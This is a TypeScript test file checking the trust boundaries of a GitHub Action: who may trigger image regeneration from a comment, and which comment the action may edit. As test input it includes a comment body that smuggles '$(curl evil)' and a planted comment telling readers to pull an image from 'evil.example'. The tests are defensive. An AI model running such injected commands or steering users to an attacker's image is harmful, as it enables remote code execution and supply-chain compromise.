// Trust boundaries, as the runner runs the bundle: who may drive the action from a comment (a
// repository permission read from the API, never author_association), and whose comment the
// action may edit (only the token's own identity's).
import { describe, expect, it } from 'vitest'
import { runAction } from '../support/action.js'
import { useEmbeddedGitHub } from '../support/embedded-github.js'
import { issueCommentEvent, pullRequestEvent, pullRequestObject } from '../support/events.js'
import { FakeComments, PERSON } from '../support/fake-comments.js'
import { tempDir } from '../support/git.js'
import type { FakePermission } from '../support/github-server.js'

const TOKEN = 'ghs_trustTestToken0123456789'
const HEAD = '3'.repeat(40)
const MARKER = '<!-- ci-image:ghcr.io/acme/app/ci -->'

let comments: FakeComments
const github = useEmbeddedGitHub((github) => {
  comments = new FakeComments(github)
  github.pulls.set(42, pullRequestObject({ number: 42, headSha: HEAD, baseRef: 'main' }))
  github.pullFiles.set(42, [{ filename: 'Dockerfile.ci' }])
})

const regen = (o: Parameters<typeof issueCommentEvent>[0], inputs: Record<string, string> = {}) =>
  runAction({
    inputs: { command: 'resolve-image', 'github-token': TOKEN, ...inputs },
    eventName: 'issue_comment',
    event: issueCommentEvent({ number: 42, ...o }),
    workspace: tempDir(),
    apiUrl: github().url,
  })
const pullsRead = () => github().requests.filter((r) => r.path.startsWith('/repos/acme/app/pulls'))
const role = (role_name: string): FakePermission => ({
  permission: role_name === 'maintain' ? 'write' : role_name === 'triage' ? 'read' : (role_name as FakePermission['permission']),
  role_name,
})

describe('/regen: people with write access, not labels', () => {
  // One allowed and one refused here, as the runner runs it; every role against every
  // trusted-permission is the target table's (test/unit/target.test.ts).
  it.each([
    // author_association is a label: a member whose organisation membership is private shows as
    // CONTRIBUTOR (actions/github-script#643, hyperdxio/hyperdx#2546) yet may have write access.
    {
      who: 'a private org member with write, shown as CONTRIBUTOR',
      association: 'CONTRIBUTOR',
      role: 'write',
      required: undefined,
      allowed: true,
    },
    { who: 'a MEMBER with only read access', association: 'MEMBER', role: 'read', required: undefined, allowed: false },
  ])('$who → allowed: $allowed', async ({ association, role: roleName, required, allowed }) => {
    github().collaborators.set('dana', role(roleName))
    const run = await regen({ association, login: 'dana' }, required ? { 'trusted-permission': required } : {})
    if (allowed) {
      expect(run.exitCode, run.stdout).toBe(0)
      expect(run.outputs).toMatchObject({ tag: 'pr-42', 'pr-number': '42' })
    } else {
      expect(run.exitCode).toBe(1)
      expect(run.stdout).toContain(
        `::error::@dana (repository permission: ${roleName}) may not run this: trusted-permission is ${required ?? 'write'}. Nothing was done.`,
      )
      expect(pullsRead()).toEqual([])
    }
  })

  // On a private repository GitHub answers 404 for a user without access; on a public one it
  // answers `read` (every user may read it: hyperdxio/hyperdx#2546). Both are below write.
  it('someone without access of their own (GitHub answers 404) is refused', async () => {
    const run = await regen({ association: 'COLLABORATOR', login: 'mallory', body: '/regen $(curl evil)' })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain(
      '::error::@mallory (repository permission: none) may not run this: trusted-permission is write. Nothing was done.',
    )
    expect(pullsRead()).toEqual([])
  })

  it('a bot is refused without asking: its comments are never a person’s request', async () => {
    github().collaborators.set('renovate[bot]', role('write'))
    const run = await regen({ login: 'renovate[bot]', userType: 'Bot' })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain('::error::@renovate[bot] is a bot: only people with write access to the repository may drive this.')
    expect(github().requests).toEqual([])
  })

  it('an edited comment drives nothing: only a new comment counts', async () => {
    github().collaborators.set('dana', role('admin'))
    const run = await regen({ login: 'dana', action: 'edited' })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain(
      '::error::The issue_comment event is "edited": only a new comment (created) may drive this, so an edit cannot change what was asked.',
    )
    expect(github().requests).toEqual([])
  })

  it('refuses an unknown trusted-permission, naming what is accepted', async () => {
    const run = await regen({ login: 'dana' }, { 'trusted-permission': 'MEMBER' })
    expect(run.exitCode).toBe(1)
    expect(run.stdout).toContain('::error::Input `trusted-permission` must be one of read, triage, write, maintain, admin; got "MEMBER".')
  })
})

describe('comment-image edits only its own comment', () => {
  const APP_TOKEN = 'ghs_appInstallationToken987654321'
  const commentImage = (token = TOKEN) =>
    runAction({
      inputs: { command: 'comment-image', 'github-token': token },
      eventName: 'pull_request',
      event: pullRequestEvent({ number: 42, headSha: HEAD }),
      apiUrl: github().url,
      workspace: tempDir(),
      env: { GITHUB_RUN_ID: '1234' },
    })

  it("never edits a stranger's comment that carries the marker: ours is created beside it", async () => {
    const planted = comments.add(42, `${MARKER}\n### 🐳 Docker CI Image Built\n\`\`\`sh\ndocker pull evil.example/ci\n\`\`\``, PERSON)
    const before = { ...planted }
    const run = await commentImage()
    expect(run.exitCode, run.stdout).toBe(0)
    const after = comments.on(42)
    expect(after).toHaveLength(2)
    expect(comments.byId.get(planted.id)).toEqual(before)
    expect(after[1]!.user.login).toBe('github-actions[bot]')
    expect(run.outputs['comment-id']).toBe(String(after[1]!.id))
    // A second run updates ours, and still leaves the stranger's alone (not counted as a duplicate either).
    const again = await commentImage()
    expect(again.outputs['comment-id']).toBe(String(after[1]!.id))
    expect(comments.on(42).map((c) => c.id)).toEqual([planted.id, after[1]!.id])
    expect(github().requests.filter((r) => r.method === 'DELETE')).toEqual([])
  })

  it("with a GitHub App's token, the App's bot is ours, and the Actions bot's old comment is not", async () => {
    github().tokens.set(APP_TOKEN, { login: 'ci-image-app[bot]', id: 900001, type: 'Bot' })
    const actionsBots = comments.add(42, `${MARKER}\nwritten by another workflow's token`)
    const first = await commentImage(APP_TOKEN)
    expect(first.exitCode, first.stdout).toBe(0)
    const ours = comments.on(42).find((c) => c.user.login === 'ci-image-app[bot]')!
    expect(first.outputs['comment-id']).toBe(String(ours.id))
    expect(comments.byId.get(actionsBots.id)!.body).toBe(`${MARKER}\nwritten by another workflow's token`)
    const second = await commentImage(APP_TOKEN)
    expect(second.outputs['comment-id']).toBe(String(ours.id))
    expect(comments.on(42)).toHaveLength(2)
  })

  it("with a person's token, that person is ours", async () => {
    const PAT = 'github_pat_personalToken0123456789'
    github().tokens.set(PAT, PERSON)
    const run = await commentImage(PAT)
    expect(run.exitCode, run.stdout).toBe(0)
    expect(comments.on(42).map((c) => c.user.login)).toEqual(['octocat'])
  })
})
